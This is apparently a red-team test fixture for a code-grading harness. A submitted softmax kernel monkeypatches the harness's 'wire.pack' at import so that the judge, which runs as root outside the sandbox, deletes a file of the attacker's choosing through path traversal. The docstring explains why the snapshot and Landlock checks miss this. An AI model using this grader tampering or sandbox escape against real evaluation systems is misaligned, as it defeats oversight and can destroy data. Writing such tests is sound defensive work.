"""Exploit: making the judge delete a file of the attacker's choosing (confused deputy).

The arena's reply names each output by a file in the exchange folder, and the judge reads it with
`wire.unpack(meta, folder)`, which opens `folder / meta["file"]` and then *unlinks* it. Nothing
checks that the name stays inside the folder, and an absolute name replaces the folder entirely.
The candidate shares the arena's process, so at import it wraps `cockpit.harness.wire.pack` (the
identity snapshot covers timers, checkers, builtins and torch, not the harness's own modules) to
rename its first verification output to an absolute path. The judge, which runs outside the
sandbox (as root on the lab machines), reads that file and deletes it. Landlock never applied to
the judge.

The test replaces `TARGET` with the path of a sentinel file it owns and checks that it survives.

Defense that must catch it: the judge must accept only plain file names inside its exchange
folder (and treat anything else as `integrity`). (Not caught.)
"""

import sys

import torch

TARGET = ""  # replaced by the test

_wire = sys.modules.get("cockpit.harness.wire")
if _wire is not None and TARGET:
    _orig_pack = _wire.pack
    _done = []

    def _pack(t, folder, prefix="t"):
        meta = _orig_pack(t, folder, prefix)
        if prefix == "o" and not _done:
            _done.append(meta["file"])
            meta["file"] = TARGET
        return meta

    _wire.pack = _pack


def kernel(x: torch.Tensor) -> torch.Tensor:
    return torch.softmax(x, dim=-1)
